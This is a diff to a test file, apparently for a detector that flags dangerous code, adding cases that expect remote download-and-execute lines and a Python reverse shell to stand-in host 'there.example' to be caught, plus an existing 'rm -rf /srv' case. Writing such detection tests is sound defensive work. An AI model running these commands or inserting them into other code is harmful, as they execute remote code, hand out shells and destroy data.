@@ -13,6 +13,19 @@ test.each([
   expect(readCode(code).deed !== undefined).toBe(removes);
 });
 
+test.each([
+  ["exec(urlopen('http://there.example').read())", 'Runs what it downloads.'],
+  ["eval get('http://there.example')", 'Runs what it downloads.'],
+  ["print(urlopen('http://there.example').read())", undefined],
+  [
+    "import socket,pty;s=socket.socket();s.connect(('there.example',4));pty.spawn('sh')",
+    'Gives a shell to another machine.',
+  ],
+  ['import socket; print(socket.gethostname())', undefined],
+])('%s: %s', (code, message) => {
+  expect(readCode(code).deed?.message).toBe(message);
+});
+
 test('hands out what goes to a shell', () => {
   expect(readCode('import os; os.system("rm -rf /srv")').shelled).toEqual(['rm -rf /srv']);
   expect(readCode("require('child_process').execSync('ls')").shelled).toEqual(['ls']);
